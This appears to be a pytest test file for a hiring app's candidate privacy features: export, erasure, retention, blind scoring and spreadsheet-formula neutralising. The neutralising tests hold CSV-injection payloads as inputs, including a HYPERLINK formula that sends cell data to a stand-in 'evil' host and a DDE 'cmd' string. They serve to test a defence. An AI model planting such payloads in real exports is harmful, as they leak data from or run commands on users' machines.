"""Candidate data protection: export, erasure, retention; spreadsheet-formula neutralising."""

import json
import re
from datetime import timedelta

import pandas as pd
import pytest
from sqlmodel import select

from models import (
    AuditEvent,
    Candidate,
    ConsensusScore,
    Decision,
    FirstInterviewScore,
    Interview,
    PanelMember,
    Position,
    Score,
    Scorecard,
    utcnow,
)
from services import admin_settings, consensus, decisions, positions, privacy, scorecards
from services.exports_safety import neutralise_cell, neutralise_frame
from tests.apptest import all_text, app_as
from tests.blind_panel import (
    CONSENSUS_NOTE,
    DRAFT,
    DRAFT_SALARY,
    OWN,
    SUBMITTED,
    SUBMITTED_REC,
    blind_panel,
    leaked,
)
from tests.conftest import count, world_fixture

NOTE = "Mentioned a sick parent in confidence"


def exists(session, candidate_id: int) -> bool:
    session.expunge_all()
    return session.exec(select(Candidate).where(Candidate.id == candidate_id)).first() is not None


@world_fixture
def held(session, make):
    """Cara with everything that can be held on a candidate; Dan beside her, untouched."""
    manager = make.user("hiring_manager", name="Hana Manager")
    pia, paul = make.user(name="Pia Panel"), make.user(name="Paul Panel")
    position = make.position(manager=manager, title="Backend Engineer")
    cara = make.candidate(position, name="Cara Candidate", first_interview_notes=NOTE)
    dan = make.candidate(position, name="Dan Candidate")
    iv = make.interview(cara, [pia, paul])
    make.scorecard(iv, pia, [3, 3, 3, 3], "yes", evidence=NOTE)
    make.scorecard(make.interview(dan, [pia, paul]), paul, [4, 4, 4, 4], "yes")
    viewer = make.viewer(manager)
    crit = positions.criteria_of(session, positions.current_template(session, position.id).id)[0]
    decisions.record_decision(session, viewer, {"candidate_id": cara.id, "outcome": "hold",
                                                "rationale": NOTE})
    consensus.record_consensus(session, viewer, {"candidate_id": cara.id,
                                                 "criterion_id": crit.id, "value": 3,
                                                 "note": NOTE})
    session.add(FirstInterviewScore(candidate_id=cara.id, criterion_id=crit.id, value=3,
                                    note=NOTE))
    session.commit()
    return {"cara": cara, "dan": dan, "iv": iv, "recruiter": make.user("recruiter")}


def test_export_holds_everything_on_the_candidate_as_json(session, make, held):
    data = privacy.export_candidate(session, held["cara"].id,
                                   viewer=make.viewer(held["recruiter"]))
    text = json.dumps(data)
    assert data["candidate"]["name"] == "Cara Candidate"
    assert data["candidate"]["first_interview_notes"] == NOTE
    card = data["interviews"][0]["scorecards"][0]
    assert card["panelist"] == "Pia Panel" and card["scores"][0]["evidence"] == NOTE
    assert data["decisions"][0]["rationale"] == NOTE
    assert data["consensus"][0]["note"] == NOTE
    assert data["first_interview_scores"][0]["note"] == NOTE
    assert any(e["action"] == "scorecard_submitted" for e in data["audit"])
    assert "Dan Candidate" not in text
    assert session.exec(select(AuditEvent).where(
        AuditEvent.action == "candidate_exported")).first() is not None


def test_erasure_removes_everything_and_keeps_only_the_fact(session, make, held):
    cid = held["cara"].id
    counts = privacy.erase_candidate(session, cid, viewer=make.admin)
    assert counts["scorecards"] == 1 and counts["interviews"] == 1
    session.expire_all()
    assert session.get(Candidate, cid) is None
    for model in (Decision, ConsensusScore, FirstInterviewScore):
        assert session.exec(select(model).where(model.candidate_id == cid)).first() is None
    assert session.exec(select(Interview).where(Interview.candidate_id == cid)).first() is None
    assert count(session, Scorecard) == 1 and count(session, PanelMember) == 2
    assert count(session, Score) == 4  # Dan's
    rows = session.exec(select(AuditEvent).where(AuditEvent.candidate_id == cid)).all()
    erased = [r for r in rows if r.action == "candidate_erased"]
    assert len(erased) == 1
    dump = json.dumps([r.detail for r in rows])
    assert NOTE not in dump and "Cara" not in dump
    assert all(r.detail == privacy.audit.REDACTED for r in rows if r.action != "candidate_erased")
    assert session.get(Candidate, held["dan"].id) is not None


def test_retention_lists_candidates_past_it(session, make, held):
    admin = make.admin
    assert privacy.past_retention(session, viewer=admin).empty  # default 365 days, all recent
    old = session.get(Candidate, held["dan"].id)
    old.created_at = utcnow() - timedelta(days=400)
    session.add(old)
    for iv in session.exec(select(Interview).where(Interview.candidate_id == old.id)).all():
        iv.scheduled_at = utcnow() - timedelta(days=380)
        session.add(iv)
    session.commit()
    assert privacy.past_retention(session, viewer=admin)["name"].tolist() == ["Dan Candidate"]
    admin_settings.update_settings(session, admin, {"retention_days": "0"})
    assert privacy.past_retention(session, viewer=admin).empty


def test_recruiter_exports_from_the_page_and_cannot_erase(session, held):
    at = app_as(held["recruiter"].id, "pages/privacy.py")
    assert not at.exception
    assert not at.get("expander") or "Erase" not in all_text(at)
    at.selectbox(key="privacy_candidate").select(held["cara"].id).run()
    at.button(key="privacy_export").click().run()
    assert not at.exception
    assert at.get("download_button")


def test_admin_erases_only_after_typing_the_confirmation(session, make, held):
    admin = make.user("admin")
    at = app_as(admin.id, "pages/privacy.py")
    at.selectbox(key="privacy_candidate").select(held["cara"].id).run()
    at.button(key="privacy_erase").click().run()
    assert "type ERASE to confirm" in all_text(at)
    assert exists(session, held["cara"].id)
    at.text_input(key="privacy_confirm").input("ERASE")
    at.button(key="privacy_erase").click().run()
    assert not at.exception
    assert not exists(session, held["cara"].id)


@pytest.mark.parametrize("value", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx",
                                   '=HYPERLINK("http://evil/?"&A1)'])
def test_formula_cells_are_neutralised(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Cara", "", "a=b", -3, 2.5, None])
def test_other_cells_are_kept(value):
    assert neutralise_cell(value) == value


def test_a_frame_is_neutralised_in_text_columns_and_names_only():
    frame = pd.DataFrame({"name": ["=cmd|' /C calc'!A0", "Dan"], "score": [-1.5, 3.0],
                          "=evil": ["x", "@y"]})
    out = neutralise_frame(frame)
    assert out["name"].tolist() == ["'=cmd|' /C calc'!A0", "Dan"]
    assert out["score"].tolist() == [-1.5, 3.0]
    assert list(out.columns) == ["name", "score", "'=evil"]
    assert out["'=evil"].tolist() == ["x", "'@y"]
    assert frame["name"].iloc[0].startswith("=")  # the input is left as it was


# ------------------------------------------------------------ blind scoring in the export

def _export_text(session, panel, viewer) -> str:
    return json.dumps(privacy.export_candidate(session, panel.cara.id, viewer=viewer),
                      ensure_ascii=False)


def test_a_seated_recruiter_exports_nothing_of_the_colleagues_cards(session, make):
    recruiter = make.user("recruiter", "panelist", name="Rita Recruiter")
    panel = blind_panel(make, session, recruiter)
    data = privacy.export_candidate(session, panel.cara.id, viewer=make.viewer(recruiter))
    text = json.dumps(data, ensure_ascii=False)
    assert leaked(text) == []
    cards = [c for iv in data["interviews"] for c in iv["scorecards"]]
    assert [c["panelist"] for c in cards] == ["Rita Recruiter"]  # their own draft only
    assert OWN["evidence"] in text
    assert SUBMITTED_REC not in {c["recommendation"] for c in cards}
    assert "blind scoring" in data["withheld"]
    # The panel and the facts stay: who sits on it, that a decision was taken.
    assert {m["name"] for m in data["interviews"][0]["panel"]} == {
        "Rita Recruiter", "Sam Submitted", "Dora Draft"}
    assert [d["outcome"] for d in data["decisions"]] == ["hold"]


def test_a_seated_admin_exports_nothing_of_the_colleagues_cards(session, make):
    admin = make.user("admin", "panelist", name="Ada Seated")
    panel = blind_panel(make, session, admin)
    assert leaked(_export_text(session, panel, make.viewer(admin))) == []


def test_after_submitting_the_export_holds_submitted_cards_but_never_a_colleagues_draft(
        session, make):
    recruiter = make.user("recruiter", "panelist", name="Rita Recruiter")
    panel = blind_panel(make, session, recruiter)
    own = [c for c in session.exec(select(Scorecard)).all() if c.panelist_id == recruiter.id][0]
    scorecards.submit(session, make.viewer(recruiter), own.id)
    text = _export_text(session, panel, make.viewer(recruiter))
    assert SUBMITTED["evidence"] in text and SUBMITTED["concerns"] in text
    assert not [m for m in DRAFT.values() if m in text]
    # As a number of its own: the same digits may well occur inside a timestamp.
    assert not re.search(rf"(?<![\d.]){DRAFT_SALARY}(?!\d)", text)


def test_a_recruiter_off_the_panel_exports_submitted_cards_but_no_draft(session, make):
    seated = make.user("panelist", name="Pia Seated")
    panel = blind_panel(make, session, seated)
    text = _export_text(session, panel, make.viewer(make.user("recruiter")))
    assert SUBMITTED["evidence"] in text and CONSENSUS_NOTE in text
    assert not [m for m in DRAFT.values() if m in text]
    assert OWN["evidence"] not in text  # Pia's draft is not the recruiter's either


def test_the_candidate_picker_names_the_position_and_tells_namesakes_apart(session, make, held):
    twin = make.candidate(session.get(Position, held["cara"].position_id), name="Cara Candidate",
                          email="cara.two@example.com")
    at = app_as(held["recruiter"].id, "pages/privacy.py")
    assert not at.exception
    options = at.selectbox(key="privacy_candidate").options
    assert "Dan Candidate · Backend Engineer" in options
    assert sum(o.startswith("Cara Candidate · Backend Engineer · ") for o in options) == 2
    assert f"Cara Candidate · Backend Engineer · {twin.email}" in options


def test_the_candidate_data_page_speaks_french(session, make, held):
    admin = make.user("admin")
    admin.language = "fr"
    session.add(admin)
    session.commit()
    at = app_as(admin.id, "pages/privacy.py")
    assert not at.exception
    assert [t.value for t in at.title] == ["Données des candidats"]
    assert at.text_input(key="privacy_confirm").label == "Tapez ERASE pour confirmer"
    assert at.button(key="privacy_export").label == "Préparer l’exportation"
    assert "Au-delà de la durée de conservation" in all_text(at)
